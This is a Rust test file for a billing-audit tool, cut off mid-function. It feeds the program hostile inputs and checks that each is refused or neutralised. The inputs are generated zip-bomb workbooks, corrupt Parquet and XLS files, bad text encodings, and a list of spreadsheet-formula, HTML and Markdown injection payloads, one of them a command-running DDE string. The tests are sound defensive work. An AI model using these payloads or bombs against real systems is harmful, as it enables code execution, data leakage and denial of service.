//! Hostile input: every file of the corpus in `tests/fixtures/hostile/` (see its README),
//! and the bombs generated here (too large to keep), is given to the real binary beside a
//! good bill, under `ulimit -v` (1 GB of address space, about seven times what a normal
//! run of the test build needs) so that overcommit cannot hide an allocation. Each run
//! must end with a contract exit status — never 101 (panic), 134 (abort), 137 (killed),
//! 139 (crash) — with the hostile file reported by name and the good bill still audited,
//! and the peak memory of the process is checked.

use crate::common;
use crate::common::{Book, Fixture, simple_payouts, standard_billing};
use crate::under_limit::{self, REFUSAL_RSS_KB};
use serde_json::Value;
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Command;

pub(crate) fn corpus(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile")
        .join(name)
}

/// One run under the address-space limit.
pub(crate) struct Limited {
    pub(crate) status: i32,
    pub(crate) stderr: String,
    /// Peak resident memory, KiB.
    pub(crate) peak_kb: u64,
    /// How long the run took (it is killed past its timeout, [`under_limit::strict`]).
    pub(crate) took: std::time::Duration,
    pub(crate) out: PathBuf,
}

impl Limited {
    pub(crate) fn json(&self) -> Value {
        let text = std::fs::read_to_string(self.out.join("findings.json"))
            .unwrap_or_else(|error| panic!("no findings.json ({error}); stderr:\n{}", self.stderr));
        serde_json::from_str(&text).unwrap()
    }

    /// The findings about `file` (by its path as given).
    pub(crate) fn about(&self, file: &Path) -> Vec<Value> {
        self.json()["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|finding| finding["evidence"]["location"]["file"] == file.display().to_string())
            .cloned()
            .collect()
    }

    pub(crate) fn installment(&self) -> Value {
        self.json()["expected"][0].clone()
    }
}

/// Runs the binary with `args` and `--out <fixture>/out` under `ulimit -v`.
pub(crate) fn run_limited(fixture: &Fixture, args: &[OsString]) -> Limited {
    let out = fixture.path("out");
    let mut all = args.to_vec();
    all.extend([OsString::from("--out"), out.clone().into_os_string()]);
    let (status, stderr, peak_kb, took) = under_limit::timed(&all, under_limit::current_timeout());
    assert!(!stderr.contains("panicked"), "{stderr}");
    Limited {
        status,
        stderr,
        peak_kb,
        took,
        out,
    }
}

/// The standard audit (contract C1, account A1, 10,000.00 in January 2025, paid 2,000.00)
/// with `hostile` as a second billing file.
pub(crate) fn audit_with_billing(fixture: &Fixture, hostile: &Path) -> Limited {
    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
    let good = fixture.write("billing.csv", standard_billing());
    let payouts = fixture.write(
        "payouts.csv",
        simple_payouts(&[("P1", "C1", "2025-02-15", "2000.00")]),
    );
    run_limited(
        fixture,
        &[
            "run".into(),
            "--contracts".into(),
            contracts.into(),
            "--billing".into(),
            good.into(),
            hostile.into(),
            "--payouts".into(),
            payouts.into(),
            "--as-of".into(),
            "2025-06-30".into(),
        ],
    )
}

/// `hostile` is refused as a whole: one `rejected_row` finding (reason `file`) whose
/// detail holds every part of `says`; the good bill is audited as if it were alone.
pub(crate) fn refused_file(hostile: &Path, says: &[&str]) -> (Fixture, Limited) {
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let about = run.about(hostile);
    assert_eq!(about.len(), 1, "{about:#?}");
    assert_eq!(about[0]["type"], "rejected_row");
    assert_eq!(about[0]["reason"], "file");
    assert_eq!(about[0]["severity"], "error");
    let detail = about[0]["detail"].as_str().unwrap();
    for part in says {
        assert!(detail.contains(part), "`{part}` not in: {detail}");
    }
    // Nothing of it reached C1: E = 20% of 10,000.00, paid in full.
    assert_eq!(run.installment()["expected"], "2000.00");
    assert_eq!(run.installment()["status"], "paid");
    assert!(
        run.peak_kb < REFUSAL_RSS_KB,
        "peak memory {} KiB",
        run.peak_kb
    );
    (fixture, run)
}

// ---------------------------------------------------------------------------------------
// Workbooks that inflate without end ("zip bombs"), built here: a deflate stream of
// repeats costs 13 to 21 bits per 258 bytes, so gigabytes fit in a few megabytes.
// ---------------------------------------------------------------------------------------

/// Writes a raw deflate stream (RFC 1951) with the fixed Huffman codes.
pub(crate) struct Deflate {
    out: Vec<u8>,
    bits: u64,
    count: u32,
}

impl Deflate {
    pub(crate) fn new() -> Self {
        let mut deflate = Deflate {
            out: Vec::new(),
            bits: 0,
            count: 0,
        };
        deflate.put(1, 1); // the last block
        deflate.put(1, 2); // fixed Huffman codes
        deflate
    }

    /// `count` bits of `value`, least significant first.
    fn put(&mut self, value: u32, count: u32) {
        self.bits |= u64::from(value) << self.count;
        self.count += count;
        while self.count >= 8 {
            self.out.push(self.bits as u8);
            self.bits >>= 8;
            self.count -= 8;
        }
    }

    /// A Huffman code: most significant bit first.
    fn code(&mut self, code: u32, length: u32) {
        self.put(code.reverse_bits() >> (32 - length), length);
    }

    fn literal(&mut self, byte: u8) {
        match byte {
            0..=143 => self.code(0x30 + u32::from(byte), 8),
            _ => self.code(0x190 + u32::from(byte - 144), 9),
        }
    }

    /// A copy of 258 bytes from `distance` back.
    fn copy_258(&mut self, distance: u32) {
        const BASE: [u32; 30] = [
            1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025,
            1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577,
        ];
        self.code(0xC5, 8); // length symbol 285: 258
        let symbol = BASE.iter().rposition(|&base| base <= distance).unwrap();
        self.code(symbol as u32, 5);
        let extra = match symbol {
            0..=3 => 0,
            _ => (symbol as u32 - 2) / 2,
        };
        self.put(distance - BASE[symbol], extra);
    }

    pub(crate) fn bytes(&mut self, bytes: &[u8]) {
        for &byte in bytes {
            self.literal(byte);
        }
    }

    /// `unit` repeated until `total` bytes.
    pub(crate) fn repeat(&mut self, unit: &[u8], total: u64) {
        self.bytes(unit);
        let mut written = unit.len() as u64;
        while total - written >= 258 {
            self.copy_258(unit.len() as u32);
            written += 258;
        }
        for position in written..total {
            self.literal(unit[(position % unit.len() as u64) as usize]);
        }
    }

    pub(crate) fn finish(mut self) -> Vec<u8> {
        self.code(0, 7); // end of block
        if self.count > 0 {
            self.put(0, 8 - self.count);
        }
        self.out
    }
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = (crc >> 1) ^ (0xEDB8_8320 & (crc & 1).wrapping_neg());
        }
    }
    !crc
}

/// A zip member: name, then either stored bytes or a deflate stream with its inflated
/// size (its CRC is left 0: a refused part is never read to its end).
enum Member {
    Stored(&'static str, Vec<u8>),
    Deflated(&'static str, Vec<u8>, u64),
}

fn zip(members: &[Member]) -> Vec<u8> {
    let mut file = Vec::new();
    let mut directory = Vec::new();
    for member in members {
        let (name, method, crc, data, size) = match member {
            Member::Stored(name, data) => (*name, 0u16, crc32(data), data, data.len() as u64),
            Member::Deflated(name, data, size) => (*name, 8u16, 0, data, *size),
        };
        let offset = file.len() as u32;
        let header = |signature: u32, central: bool| {
            let mut bytes = signature.to_le_bytes().to_vec();
            if central {
                bytes.extend(20u16.to_le_bytes());
            }
            for value in [20u16, 0, method, 0, 0x21] {
                bytes.extend(value.to_le_bytes());
            }
            bytes.extend(crc.to_le_bytes());
            bytes.extend((data.len() as u32).to_le_bytes());
            bytes.extend(u32::try_from(size).unwrap().to_le_bytes());
            bytes.extend((name.len() as u16).to_le_bytes());
            bytes.extend(0u16.to_le_bytes());
            if central {
                for value in [0u16, 0, 0] {
                    bytes.extend(value.to_le_bytes());
                }
                bytes.extend(0u32.to_le_bytes());
                bytes.extend(offset.to_le_bytes());
            }
            bytes.extend(name.as_bytes());
            bytes
        };
        file.extend(header(0x0403_4b50, false));
        file.extend(data);
        directory.extend(header(0x0201_4b50, true));
    }
    let start = file.len() as u32;
    file.extend(&directory);
    file.extend(0x0605_4b50u32.to_le_bytes());
    for value in [0u16, 0, members.len() as u16, members.len() as u16] {
        file.extend(value.to_le_bytes());
    }
    file.extend((directory.len() as u32).to_le_bytes());
    file.extend(start.to_le_bytes());
    file.extend(0u16.to_le_bytes());
    file
}

const MAIN: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";

/// A one-sheet workbook whose parts are `sheet` and `styles` as given, the rest minimal.
fn workbook(sheet: Member, styles: Option<Member>) -> Vec<u8> {
    let relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let mut members = vec![
        Member::Stored(
            "[Content_Types].xml",
            br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#.to_vec(),
        ),
        Member::Stored(
            "_rels/.rels",
            format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#).into_bytes(),
        ),
        Member::Stored(
            "xl/workbook.xml",
            format!(r#"<?xml version="1.0"?><workbook {MAIN} xmlns:r="{relationships}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#).into_bytes(),
        ),
        Member::Stored(
            "xl/_rels/workbook.xml.rels",
            format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{relationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#).into_bytes(),
        ),
        sheet,
    ];
    members.extend(styles);
    zip(&members)
}

pub(crate) const GIB: u64 = 1024 * 1024 * 1024;

/// A sheet part whose one cell inflates to `text` bytes of one text (2 GiB are 14 MB on
/// disk), its size declared by its header as `declared`.
fn text_bomb(text: u64, declared: Option<u64>) -> Vec<u8> {
    let head = format!(
        r#"<?xml version="1.0"?><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>"#
    );
    let tail = "</t></is></c></row></sheetData></worksheet>";
    let mut deflate = Deflate::new();
    deflate.bytes(head.as_bytes());
    deflate.repeat(b"A", text);
    deflate.bytes(tail.as_bytes());
    let size = head.len() as u64 + text + tail.len() as u64;
    let bytes = workbook(
        Member::Deflated(
            "xl/worksheets/sheet1.xml",
            deflate.finish(),
            declared.unwrap_or(size),
        ),
        None,
    );
    assert!(bytes.len() < 16_000_000, "{} bytes", bytes.len());
    bytes
}

#[test]
fn a_workbook_whose_sheet_of_empty_rows_inflates_to_gigabytes_is_refused_at_once() {
    under_limit::strict();
    // A few MB of empty rows that inflate to 2.4 GB: read to the end, it took 19 s and
    // handed over 16 million blank rows without a word.
    let head = format!(r#"<?xml version="1.0"?><worksheet {MAIN}><sheetData>"#);
    let tail = "</sheetData></worksheet>";
    let total = 2_400_000_000u64;
    let mut deflate = Deflate::new();
    deflate.bytes(head.as_bytes());
    deflate.repeat(b"<row><c/></row>", total);
    deflate.bytes(tail.as_bytes());
    let size = head.len() as u64 + total + tail.len() as u64;
    let bytes = workbook(
        Member::Deflated("xl/worksheets/sheet1.xml", deflate.finish(), size),
        None,
    );
    let fixture = Fixture::new();
    let bomb = fixture.write("empty-rows.xlsx", &bytes);
    let started = std::time::Instant::now();
    refused_file(
        &bomb,
        &["a sheet of millions of empty rows", "`inflation_ratio`"],
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_workbook_whose_one_cell_inflates_to_two_gigabytes_is_refused_in_little_memory() {
    // calamine's XML reader holds a token whole: the process aborted before the limits.
    // Its header says what it inflates to, far past 100 times its size: refused at once.
    let fixture = Fixture::new();
    let bomb = fixture.write("bomb.xlsx", text_bomb(2 * GIB, None));
    let started = std::time::Instant::now();
    let (_run_fixture, run) = refused_file(
        &bomb,
        &[
            "the sheet part `xl/worksheets/sheet1.xml` once decompressed",
            "is 2147483842 bytes",
            "`inflation_ratio`",
        ],
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    eprintln!("text bomb refused; peak {} KiB", run.peak_kb);
    // A header that lies about the size: the zip reader stops at the declared size, and
    // the file is refused as corrupt.
    let fixture = Fixture::new();
    let liar = fixture.write("liar.xlsx", text_bomb(2 * GIB, Some(4096)));
    let (_run_fixture, run) = refused_file(
        &liar,
        &["File is larger than its declared uncompressed size"],
    );
    eprintln!("lying text bomb refused; peak {} KiB", run.peak_kb);
    // Under the inflation floor, a 64 MiB text in one cell is still refused: calamine
    // would hold it whole.
    let fixture = Fixture::new();
    let token = fixture.write("token.xlsx", text_bomb(64 << 20, None));
    refused_file(
        &token,
        &[
            "an XML token",
            "`xl/worksheets/sheet1.xml`",
            "over the limit of 16777216 bytes",
        ],
    );
}

#[test]
fn a_workbook_part_that_inflates_past_a_gigabyte_is_refused_before_calamine() {
    // Styles made of a small tag repeated: no long token, but 1.1 GiB once inflated, and
    // calamine reads the styles whole.
    let mut unit = b"<x a=\"".to_vec();
    unit.extend(std::iter::repeat_n(b'a', 1012));
    unit.extend(b"\"/>");
    assert_eq!(unit.len(), 1021);
    let mut deflate = Deflate::new();
    deflate.repeat(&unit, GIB + GIB / 10);
    let sheet = format!(
        r#"<?xml version="1.0"?><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>account_id</t></is></c></row></sheetData></worksheet>"#
    );
    let bytes = workbook(
        Member::Stored("xl/worksheets/sheet1.xml", sheet.into_bytes()),
        Some(Member::Deflated(
            "xl/styles.xml",
            deflate.finish(),
            GIB + GIB / 10,
        )),
    );
    assert!(bytes.len() < 16_000_000, "{} bytes", bytes.len());
    let fixture = Fixture::new();
    let bomb = fixture.write("styles-bomb.xlsx", &bytes);
    let (_run_fixture, run) = refused_file(
        &bomb,
        &[
            "the part `xl/styles.xml` once decompressed is 1073741825 bytes",
            "over the limit of 1073741824 bytes",
        ],
    );
    eprintln!("part bomb refused; peak {} KiB", run.peak_kb);
}

#[test]
fn a_shared_string_table_declaring_four_billion_strings_is_refused() {
    refused_file(
        &corpus("shared-strings-count.xlsx"),
        &["declared count (4294967295 strings"],
    );
}

#[test]
fn an_xls_whose_header_declares_every_sector_is_a_rejected_file() {
    refused_file(
        &corpus("max-fat-counts.xls"),
        &["cannot read the workbook", "Cfb error"],
    );
}

#[test]
fn a_parquet_file_cut_off_is_a_rejected_file() {
    refused_file(
        &corpus("truncated.parquet"),
        &[
            "not a readable Parquet file",
            "does not end with the Parquet magic bytes PAR1",
        ],
    );
}

#[test]
fn a_parquet_file_with_a_bad_magic_is_a_rejected_file() {
    refused_file(
        &corpus("bad-magic.parquet"),
        &[
            "not a readable Parquet file",
            "does not start with the Parquet magic bytes PAR1",
        ],
    );
}

#[test]
fn a_parquet_file_whose_footer_is_garbage_is_a_rejected_file() {
    refused_file(
        &corpus("bad-footer.parquet"),
        &["not a readable Parquet file"],
    );
}

#[test]
fn a_parquet_footer_claiming_four_gigabytes_of_metadata_is_refused_before_it_is_read() {
    refused_file(
        &corpus("huge-metadata.parquet"),
        &["4294967280 bytes", "parquet_metadata_size"],
    );
}

#[test]
fn a_parquet_file_matching_no_layout_is_rejected_like_any_unrecognised_table() {
    let hostile = corpus("wrong-schema.parquet");
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, &hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    // The header row with the reason, then its two rows pointing at it.
    let about = run.about(&hostile);
    assert_eq!(about.len(), 3, "{about:#?}");
    assert!(
        about
            .iter()
            .all(|finding| finding["type"] == "rejected_row")
    );
    let header = about
        .iter()
        .find(|finding| finding["evidence"]["location"]["row"] == 1)
        .unwrap();
    let detail = header["detail"].as_str().unwrap();
    assert!(
        detail.contains("none of the columns any format requires"),
        "{detail}"
    );
    assert_eq!(run.installment()["expected"], "2000.00");
    assert!(
        run.peak_kb < REFUSAL_RSS_KB,
        "peak memory {} KiB",
        run.peak_kb
    );
}

#[test]
fn a_2_kb_xlsx_declaring_the_whole_grid_streams_its_rows_in_little_memory() {
    // <dimension ref="A1:XFD1048576"/>, a header and one bill row, and a cell at
    // XFD1048576: read cell by cell, the grid between is never allocated.
    let hostile = corpus("huge-dimension.xlsx");
    assert!(std::fs::metadata(&hostile).unwrap().len() < 2048);
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, &hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    // The far cell is past the widest row read (1,024 columns): its row is rejected,
    // naming the cell, never dropped.
    let about = run.about(&hostile);
    assert_eq!(about.len(), 1, "{about:#?}");
    assert_eq!(about[0]["reason"], "row", "{about:#?}");
    assert_eq!(
        about[0]["evidence"]["location"]["row"], 1048576,
        "{about:#?}"
    );
    assert!(
        about[0]["detail"]
            .as_str()
            .unwrap()
            .contains("cell XFD1048576 (column 16384) holds a value"),
        "{about:#?}"
    );
    // Its row counts: 20% of 10,500.00, of which 2,000.00 paid.
    assert_eq!(run.installment()["weighted_base"], "10500.00");
    assert_eq!(run.installment()["status"], "underpaid");
    let control = run.json()["controls"]["billing"]
        .as_array()
        .unwrap()
        .iter()
        .find(|control| control["file"] == hostile.display().to_string())
        .cloned()
        .unwrap();
    assert_eq!(control["read"]["rows"], 2);
    assert_eq!(control["rejected"]["rows"], 1);
    assert_eq!(control["blank_rows"], 0);
    assert_eq!(control["balanced"], true);
    assert!(run.peak_kb < REFUSAL_RSS_KB, "peak {} KiB", run.peak_kb);
}

/// `hostile`'s bad row is rejected (reason `row`), naming its row, column and byte offset
/// (every part of `says`), and its `good` other rows of 1.00 count for C1; `findings` are
/// about the file in all.
fn rejected_row(
    hostile: &Path,
    row: u64,
    says: &[&str],
    good: u64,
    findings: usize,
) -> (Fixture, Limited) {
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let about = run.about(hostile);
    assert_eq!(about.len(), findings, "{about:#?}");
    let bad = about
        .iter()
        .find(|finding| finding["evidence"]["location"]["row"] == row)
        .unwrap_or_else(|| panic!("no finding on row {row}: {about:#?}"));
    assert_eq!(bad["type"], "rejected_row");
    assert_eq!(bad["reason"], "row");
    let detail = bad["detail"].as_str().unwrap();
    for part in says {
        assert!(detail.contains(part), "`{part}` not in: {detail}");
    }
    assert_eq!(
        run.installment()["weighted_base"],
        format!("{}.00", 10_000 + good)
    );
    let text = std::fs::read_to_string(run.out.join("findings.json")).unwrap();
    assert!(!text.contains('\u{FFFD}'));
    (fixture, run)
}

#[test]
fn invalid_utf8_in_the_middle_of_a_csv_rejects_its_row_never_replaces_bytes() {
    // 998 good rows, then a row cut by a spliced-in row whose product holds the bytes
    // FF FE (row 1,000, its 7th column), the rest of the cut row (`NY`, row 1,001: too
    // short, rejected), then 1,001 good rows. UTF-8 reads furthest, so the file is UTF-8
    // and the bad bytes reject their row, naming the column and the byte offset.
    let hostile = corpus("invalid-utf8-mid-file.csv");
    let (_run_fixture, run) = rejected_row(
        &hostile,
        1000,
        &["column 7 is not valid UTF-8 (byte offset 24039)"],
        1999,
        2,
    );
    for name in ["findings.json", "findings.csv", "report.html", "summary.md"] {
        let text = std::fs::read_to_string(run.out.join(name)).unwrap();
        assert!(
            !text.contains('\u{FFFD}'),
            "a replacement character in {name}"
        );
    }
}

/// A bill of `rows` rows of 1.00 for account A1, with `bad` as the product of row `at`;
/// in GBK, each row also names its instance 实例 (so the start is not plain ASCII).
fn long_bill(rows: usize, at: usize, bad: &[u8], gbk: bool) -> Vec<u8> {
    let mut bytes = b"account_id,billing_month,product,net_amount,currency".to_vec();
    bytes.extend(if gbk { &b",instance_id\n"[..] } else { b"\n" });
    for row in 2..=rows + 1 {
        bytes.extend(b"A1,2025-01,");
        if row == at {
            bytes.extend(bad);
        } else {
            bytes.extend(b"ECS");
        }
        bytes.extend(b",1.00,CNY");
        // 实例 in GBK.
        bytes.extend(if gbk {
            &b",\xca\xb5\xc0\xfd\n"[..]
        } else {
            b"\n"
        });
    }
    bytes
}

#[test]
fn invalid_utf8_past_the_sniffed_start_rejects_its_row_and_reads_the_rest() {
    // 20,000 rows (about 500 KB); the encoding is decided from the first 256 KiB, so row
    // 15,000 is read as UTF-8 and its bad bytes reject that row alone.
    let fixture = Fixture::new();
    let bytes = long_bill(20_000, 15_000, b"EC\xff\xfeS", false);
    let offset = bytes.iter().position(|byte| *byte == 0xFF).unwrap();
    let hostile = fixture.write("late.csv", bytes);
    // The 19,999 other rows count.
    rejected_row(
        &hostile,
        15_000,
        &[&format!(
            "column 3 is not valid UTF-8 (byte offset {offset}), although the rest of the file is"
        )],
        19_999,
        1,
    );
}

#[test]
fn invalid_gbk_past_the_sniffed_start_rejects_its_row_and_reads_the_rest() {
    // The decoder marks the pair 81 20 (no GBK/GB18030 character) instead of failing:
    // its row is rejected naming the pair's offset, and the 19,999 other rows count.
    let fixture = Fixture::new();
    let bytes = long_bill(20_000, 15_000, b"\x81\x20", true);
    let offset = bytes
        .windows(2)
        .position(|pair| pair == b"\x81\x20")
        .unwrap();
    let hostile = fixture.write("late-gbk.csv", bytes);
    rejected_row(
        &hostile,
        15_000,
        &[&format!(
            "column 3 is not valid GB18030 (byte offset {offset})"
        )],
        19_999,
        1,
    );
}

#[test]
fn an_invalid_gbk_byte_pair_rejects_its_row_with_its_offset() {
    // GBK text (so GB18030 reads further than UTF-8) whose row 3 holds the pair 81 20:
    // that row is rejected naming the pair's offset; rows 2 and 4 count.
    rejected_row(
        &corpus("invalid-gbk.csv"),
        3,
        &["column 3 is not valid GB18030 (byte offset 93)"],
        2,
        1,
    );
}

#[test]
fn bytes_that_are_text_in_no_encoding_refuse_the_file_with_the_first_offset() {
    // A header, then binary bytes: far more bad sequences than damage would make.
    let fixture = Fixture::new();
    let mut bytes = b"account_id,billing_month,product,net_amount,currency\n".to_vec();
    let at = bytes.len();
    bytes.extend((0..4096u32).map(|index| (index.wrapping_mul(2_654_435_761) >> 24) as u8 | 0x80));
    let hostile = fixture.write("binary.csv", bytes);
    refused_file(
        &hostile,
        &[
            "neither UTF-8 nor GBK/GB18030",
            &format!("as UTF-8, its first bad byte is at offset {at}"),
        ],
    );
}

#[test]
fn an_unbalanced_quote_rejects_every_row_it_swallows_and_the_totals_still_balance() {
    // Rows 2–11 are good; row 12 opens a quote that never closes and swallows 13–32.
    let hostile = corpus("unbalanced-quote.csv");
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, &hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let rows: Vec<u64> = run
        .about(&hostile)
        .iter()
        .map(|finding| {
            assert_eq!(finding["type"], "rejected_row");
            finding["evidence"]["location"]["row"].as_u64().unwrap()
        })
        .collect();
    assert_eq!(rows.len(), 21, "{rows:?}");
    assert!(rows.contains(&12) && rows.contains(&32), "{rows:?}");
    let swallowed = run
        .about(&hostile)
        .iter()
        .filter(|finding| {
            finding["detail"]
                .as_str()
                .unwrap()
                .contains("swallowed by the unclosed quote opened on line 12")
        })
        .count();
    assert_eq!(swallowed, 20);
    // The ten good rows count: 10,000.00 + 10 × 1.00.
    assert_eq!(run.installment()["weighted_base"], "10010.00");
    let control = run.json()["controls"]["billing"][1].clone();
    assert_eq!(control["read"]["rows"], 31);
    assert_eq!(control["rejected"]["rows"], 21);
    assert_eq!(control["balanced"], true);
}

#[test]
fn ragged_rows_short_and_long_ones_are_rejected_with_their_row() {
    // Row 3 has a sixth field beyond the header, row 4 lacks its currency.
    let hostile = corpus("ragged-rows.csv");
    let fixture = Fixture::new();
    let run = audit_with_billing(&fixture, &hostile);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let mut about = run.about(&hostile);
    about.sort_by_key(|finding| finding["evidence"]["location"]["row"].as_u64());
    assert_eq!(about.len(), 2, "{about:#?}");
    assert_eq!(about[0]["evidence"]["location"]["row"], 3);
    assert!(
        about[0]["detail"]
            .as_str()
            .unwrap()
            .contains("past the header's 5 columns"),
        "{about:#?}"
    );
    assert_eq!(about[1]["evidence"]["location"]["row"], 4);
    assert!(
        about[1]["detail"]
            .as_str()
            .unwrap()
            .contains("currency: expected a currency code such as CNY, found (empty)"),
        "{about:#?}"
    );
    // Rows 2 and 5 count: 1.00 + 8.00; rows 3 (2.00) and 4 (4.00) are rejected and counted.
    assert_eq!(run.installment()["weighted_base"], "10009.00");
    let control = run.json()["controls"]["billing"][1].clone();
    assert_eq!(control["read"]["rows"], 4);
    assert_eq!(control["read"]["amount"], "15.00");
    assert_eq!(control["rejected"]["amount"], "6.00");
    assert_eq!(control["balanced"], true);
}

/// Payloads of research R1–R3 that the injection fixtures put in product names,
/// account ids, payout ids and contract ids.
const PAYLOADS: [&str; 9] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "a|b`c`![x](http://evil.example/x.png)",
];

fn injection_run(fixture: &Fixture) -> Limited {
    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
    run_limited(
        fixture,
        &[
            "run".into(),
            "--contracts".into(),
            contracts.into(),
            "--billing".into(),
            corpus("injection-billing.csv").into(),
            "--payouts".into(),
            corpus("injection-payouts.csv").into(),
            "--as-of".into(),
            "2025-06-30".into(),
        ],
    )
}

/// A text cell a spreadsheet would run as a formula.
fn formula_like(text: &str) -> bool {
    let trimmed = text.trim_start_matches([' ', '"']);
    text.starts_with(['\t', '\r', '\n', '\0'])
        || trimmed.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn injection_payloads_are_inert_in_the_csv_xlsx_and_html_reports() {
    let fixture = Fixture::new();
    let run = injection_run(&fixture);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let json = run.json();
    let findings = json["findings"].as_array().unwrap();
    // Each payload is a product, an account and a payout naming a contract.
    for (kind, count) in [
        ("unknown_product", 9),
        ("uncovered_billing", 9),
        ("unmatched_payout", 9),
    ] {
        let found = findings
            .iter()
            .filter(|finding| finding["type"] == kind)
            .count();
        assert_eq!(found, count, "{kind}");
    }
    // findings.json keeps the raw values.
    let raw = serde_json::to_string(&json).unwrap();
    for payload in PAYLOADS {
        let quoted = serde_json::to_string(payload.trim()).unwrap();
        assert!(
            raw.contains(&quoted[1..quoted.len() - 1]),
            "{payload:?} kept raw in findings.json"
        );
    }
    // findings.csv: no field a spreadsheet would run.
    let csv_bytes = std::fs::read(run.out.join("findings.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(&csv_bytes[3..]);
    let mut fields = 0;
    for record in reader.records() {
        for field in record.unwrap().iter() {
            fields += 1;
            // Money and counts are plain numbers (`-1.80`), never text.
            let number = field.parse::<f64>().is_ok();
            assert!(
                number || !formula_like(field),
                "findings.csv field {field:?}"
            );
        }
    }
    assert!(fields > 27 * 10);
    // The workbooks: no formula cell, no text cell a spreadsheet would run.
    for name in ["findings.xlsx", "report.xlsx"] {
        use calamine::{Data, Reader, open_workbook};
        let mut workbook: calamine::Xlsx<_> = open_workbook(run.out.join(name)).unwrap();
        for sheet in workbook.sheet_names() {
            let formulas = workbook.worksheet_formula(&sheet).unwrap();
            assert!(
                formulas
                    .used_cells()
                    .all(|(_, _, formula)| formula.is_empty()),
                "{name}:{sheet} holds a formula"
            );
            for (row, column, cell) in workbook.worksheet_range(&sheet).unwrap().used_cells() {
                if let Data::String(text) = cell {
                    assert!(
                        !formula_like(text),
                        "{name}:{sheet}:{row}:{column} {text:?}"
                    );
                }
            }
        }
    }
    // The pages: escaped markup, a Content-Security-Policy, nothing loaded.
    for name in ["report.html", "summary.html"] {
        let page = std::fs::read_to_string(run.out.join(name)).unwrap();
        assert!(!page.contains("<script>alert"), "{name}");
        assert!(!page.contains("<img"), "{name}");
        assert!(
            page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{name}"
        );
        assert!(!page.contains("src=\"http"), "{name}");
    }
    let report = std::fs::read_to_string(run.out.join("report.html")).unwrap();
    assert!(report.contains("Content-Security-Policy"));
}

/// Text that must never come out as markup: what the Markdown reports leave of the
/// payloads, checked as a CommonMark/GFM renderer would read the file (research R3).
fn assert_markdown_inert(name: &str, text: &str) {
    // No raw HTML, autolink or comment: we write no `<` of our own, and input's are `&lt;`.
    for (at, _) in text.match_indices('<') {
        let next = text[at + 1..].chars().next();
        assert!(
            !next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?".contains(next)),
            "{name}: raw markup at {:?}",
            &text[at..text.len().min(at + 40)]
        );
    }
    assert!(!text.contains("<script"), "{name}: raw <script");
    assert!(!text.contains("<img"), "{name}: raw <img");
    // No terminal control sequence in what `explain` prints or a viewer shows.
    assert!(
        !text
            .chars()
            .any(|character| character.is_control() && character != '\n'),
        "{name}: a control character"
    );
    for (number, line) in text.lines().enumerate() {
        let place = format!("{name}:{}: {line}", number + 1);
        // Read each line as a renderer does: a backslash escapes the next character.
        let mut chars = line.chars().peekable();
        let (mut pipes, mut backticks) = (0, Vec::new());
        let mut plain = String::new();
        while let Some(character) = chars.next() {
            match character {
                '\\' => {
                    chars.next();
                }
                // We write no `]`: a bare one could close a link or an image.
                ']' => panic!("{place}: an unescaped `]` (a link or image)"),
                '|' => pipes += 1,
                '`' => backticks.push(plain.len()),
                _ => {}
            }
            plain.push(character);
        }
        assert!(!plain.contains("!["), "{place}: an image");
        // Code spans are only ours: around finding ids.
        for pair in backticks.chunks(2) {
            let [open, close] = pair else {
                panic!("{place}: an unpaired backtick")
            };
            let inside = &plain[open + 1..*close];
